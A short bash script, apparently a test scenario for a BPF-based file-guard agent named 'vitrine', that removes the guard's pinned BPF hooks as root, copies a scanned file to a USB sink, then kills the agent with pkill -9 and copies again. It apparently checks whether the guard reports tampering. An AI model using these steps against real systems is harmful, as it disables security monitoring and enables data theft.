#!/usr/bin/env bash
# technique: root removes the pins of the guard, copies, then kills the agent and copies again
# hooks: file_open (the agent holds the guard itself, and pins it again)
# sink: usb
# notice: guard-touched
# as: root

. attack.sh
rm -r /sys/fs/bpf/vitrine
cp "$SCAN" "$COPY"
until_true test -e /sys/fs/bpf/vitrine/links/file_open
sleep 1
pkill -9 -x vitrine
cp "$SCAN" "$COPY.after"
